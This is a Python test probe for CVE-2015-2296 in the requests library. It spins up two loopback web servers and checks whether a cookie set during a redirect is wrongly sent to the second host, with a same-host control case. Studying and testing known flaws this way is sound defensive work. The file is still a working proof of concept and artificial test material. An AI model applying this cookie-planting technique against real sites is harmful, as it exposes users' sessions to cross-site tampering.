# /// vertice-probe
# id = "PYSEC-2015-17"
# aliases = ["CVE-2015-2296"]
# package = "requests"
# summary = "A cookie set by a redirecting answer is taken for the next host, so one site plants cookies for another."
# severity = [{ type = "CVSS_V2", score = "AV:N/AC:M/Au:N/C:P/I:P/A:P" }]
# cwe = ["CWE-200", "CWE-384"]
# kind = "leak"
# symbols = [
#   "requests.get",
#   "requests.post",
#   "requests.request",
#   "requests.Session",
#   "requests.session",
#   "requests.sessions.SessionRedirectMixin.resolve_redirects",
# ]
#
# [[affected]]
# package = "requests"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "2.1.0" }, { fixed = "2.6.0" }] }]
#
# [cases]
# attack = "a redirect from one loopback host to another carries the first one's cookie along"
# [cases.variants]
# chain = "the same for a POST whose second redirect, made with a prepared request, changes the host"
# [cases.controls]
# same_host = "a cookie set while redirecting to the same host is sent there"
#
# [test]
# vulnerable = "2.5.3"
# fixed = "2.6.0"
# python = ">=3.7,<3.12"
# ///
"""CVE-2015-2296: cookies of a redirecting answer go to the next host."""

import collections
import collections.abc
import http.server
import json
import sys
import threading
import warnings

warnings.simplefilter("ignore")
for moved in ("Mapping", "MutableMapping", "Callable"):  # these releases look for them where they were until Python 3.9
    if not hasattr(collections, moved):
        setattr(collections, moved, getattr(collections.abc, moved))


class Site(object):
    """A web server on a loopback address: redirects by path, sets a cookie by path, notes what it gets."""

    def __init__(self, host):
        self.redirects, self.cookies, self.seen = {}, {}, []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                site.seen.append((self.path, self.headers.get("Cookie")))
                target = site.redirects.get(self.path)
                self.send_response(302 if target else 200)
                if target:
                    self.send_header("Location", target)
                if self.path in site.cookies:
                    self.send_header("Set-Cookie", site.cookies[self.path])
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        server = http.server.HTTPServer((host, 0), Handler)
        self.url = "http://%s:%d" % (host, server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()


def look(first, second):
    if first.seen[-1:] == [] or [path for path, _ in second.seen] != ["/end"]:
        return "error", "the redirect was not followed: %r %r" % (first.seen, second.seen)
    cookie = second.seen[0][1]
    if cookie and "planted=1" in cookie:
        return "exploited", "the second host got the cookie that the first one set"
    return "blocked", "the second host was reached without the first one's cookie"


def direct():
    import requests

    session = requests.Session()
    session.trust_env = False
    return session


def attack():
    first, second = Site("127.0.0.1"), Site("127.0.0.2")
    first.redirects["/start"], first.cookies["/start"] = second.url + "/end", "planted=1"
    direct().get(first.url + "/start")
    return look(first, second)


def chain():
    import requests

    first, second = Site("127.0.0.1"), Site("127.0.0.2")
    first.redirects["/start"] = "/middle"
    first.redirects["/middle"], first.cookies["/middle"] = second.url + "/end", "planted=1; Path=/"
    session = direct()
    session.send(session.prepare_request(requests.Request("POST", first.url + "/start", data={"a": "b"})))
    return look(first, second)


def same_host():
    site = Site("127.0.0.1")
    site.redirects["/start"], site.cookies["/start"] = "/end", "login=1; Path=/"
    session = direct()
    session.get(site.url + "/start")
    session.get(site.url + "/later")
    wanted = [("/start", None), ("/end", "login=1"), ("/later", "login=1")]
    return ("works", "the cookie came back to its own host") if site.seen == wanted else ("broken", repr(site.seen))


CASES = {"attack": attack, "chain": chain, "same_host": same_host}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
